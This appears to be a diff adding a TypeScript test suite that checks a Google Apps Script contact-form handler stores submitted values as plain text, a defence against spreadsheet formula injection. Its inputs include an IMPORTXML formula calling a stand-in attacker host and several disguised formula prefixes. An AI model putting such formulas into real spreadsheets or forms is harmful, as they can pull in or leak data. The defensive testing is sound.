@@ -1,0 +1,52 @@
+import { asSpreadsheetRow } from '../src/submission/payloads';
+import { startScript, type RunningScript } from './testing/appsScript';
+import { contact, newKey } from './testing/submit';
+
+/** docs/apps-script.gs itself, on stand-ins for Google's services: its cells. */
+let script: RunningScript;
+beforeEach(() => {
+  script = startScript();
+});
+
+const post = (payload: unknown, id?: string) => script.post(payload, id ? { submission: id } : {});
+
+describe('case 21 a cell is text that reads as it was sent', () => {
+  const formulas = ['=1+1', '=IMPORTXML("https://evil.example","//a")', '+919876543210', '-1', '@SUM(A1)'];
+  const hidden = ['\t=1', '\r=1', '\n=1', '\uff1d1', '\uff0b1', '\u202e=1', '\ufeff=1', '\u0000=1', ' =1'];
+  const guessed = ['015112345678', '1/2', '1e5', '2026-03-02', '10:30', 'TRUE', '12345678901234567890', '5%', ''];
+  const quoted = ["'twas", "'=1", "''=1", "'"];
+
+  test.each([...formulas, ...hidden, ...guessed, ...quoted])('%j, sent by a browser', (message) => {
+    expect(post(contact({ message, name: message, phone: message }))).toEqual({ ok: true });
+    expect(script.records('Contact')).toMatchObject([
+      { message: { text: message }, name: { text: message }, phone: { text: message } },
+    ]);
+  });
+
+  test.each([...formulas, '\t=1', '\uff1d1', ...guessed, ...quoted])('%j, sent by the relay', (message) => {
+    expect(post(asSpreadsheetRow(contact({ message, phone: '+4915112345678' })), newKey())).toEqual({ ok: true });
+    expect(script.records('Contact')).toMatchObject([
+      { message: { text: message }, phone: { text: '+4915112345678' } },
+    ]);
+  });
+
+  test('"\'twas", sent by a relay of before, which put no apostrophe before it', () => {
+    post(contact({ message: "'twas" }), newKey());
+    expect(script.records('Contact')).toMatchObject([{ message: { text: "'twas" } }]);
+  });
+
+  test('the stand-in spreadsheet changes all of these when they are typed', () => {
+    const tab = script.tabNamed('Contact');
+    const changed = [...formulas, ...hidden, ...guessed.filter(Boolean), ...quoted];
+    changed.forEach((value) => tab?.appendRow([value]));
+    const kept = changed.filter((value, at) => JSON.stringify(tab?.rows[at]) === JSON.stringify([{ text: value }]));
+    expect([tab?.rows.length, kept]).toEqual([changed.length, []]);
+  });
+
+  test.each([...formulas, ...guessed, ...quoted])('%j, in a column that the owner formatted as text', (message) => {
+    const tab = script.tabNamed('Contact');
+    for (let column = 1; column <= 10; column += 1) tab?.textColumns.add(column);
+    post(contact({ message }));
+    expect(script.records('Contact')).toMatchObject([{ message: { text: message } }]);
+  });
+});
